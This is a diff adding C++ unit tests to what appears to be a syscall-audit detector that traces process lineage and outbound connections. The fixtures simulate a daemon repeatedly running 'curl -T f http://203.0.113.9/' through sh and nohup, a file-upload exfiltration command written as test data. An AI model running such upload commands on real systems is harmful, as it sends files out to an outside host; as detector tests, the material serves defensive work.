@@ -33,6 +33,54 @@ TEST_CASE("profile: execve and connect only") {
   CHECK(coverage_of(log).verdict == coverage::CoverageVerdict::blind);
 }
 
+TEST_CASE("profile: execve and connect only: a number that comes back is where it was") {
+  CronHost log("", only({"execve", "connect"}));
+  const int daemon = log.daemon(400, "/usr/sbin/sender");
+  for (int run = 0; run < 5; ++run) {
+    log.fork(daemon, 700);
+    log.exec(700, "/usr/bin/dash", {"sh", "-c", "exec nohup curl -T f http://203.0.113.9/"});
+    log.exec(700, "/usr/bin/nohup", {"nohup", "curl", "-T", "f", "http://203.0.113.9/"});
+    log.exec(700, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+    log.tcp(700, 3, kDrop, 80);
+    log.pass(60'000);
+  }
+  const auto facts = tell(log);
+  REQUIRE(facts.size() == 5);
+  for (const auto& fact : facts) {
+    std::vector<std::string> above;
+    for (const auto& program : fact.lineage) {
+      above.push_back(program.exe);
+    }
+    CHECK(above == std::vector<std::string>{"/usr/bin/nohup", "/usr/bin/dash", "/usr/sbin/sender"});
+  }
+}
+
+TEST_CASE("profile: execve and connect only: what runs the same again") {
+  // At its start it re-executes itself, with other variables. Later it is another with its number.
+  const auto [gap, above] =
+      GENERATE(table<int, std::string>({{20, "/usr/bin/curl"}, {60'000, "/usr/bin/dash"}}));
+  CAPTURE(gap);
+  CronHost log("", only({"execve", "connect"}));
+  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+  log.pass(gap);
+  log.exec(curl, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+  log.tcp(curl, 3, kDrop, 80);
+  CHECK(one(log).lineage.front().exe == above);
+}
+
+TEST_CASE("profile: execve and connect only: a stream connects once") {
+  const auto [audited, connections] = GENERATE(table<Audited, std::uint64_t>(
+      {{only({"execve", "connect"}), 3}, {only({"execve", "connect", "socket"}), 3}}));
+  CronHost log("", audited);
+  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+  for (int i = 0; i < 3; ++i) {
+    log.tcp(curl, 3, kDrop, 80, -115);  // EINPROGRESS, and once more when it is there
+    log.connect(curl, 3, kDrop, 80);
+    log.close(curl, 3);
+  }
+  CHECK(one(log).destinations[0].connections == connections);
+}
+
 TEST_CASE("profile: execve only: the command line names the peer") {
   const CronHost log = night(only({"execve"}));
   const auto facts = tell(log);
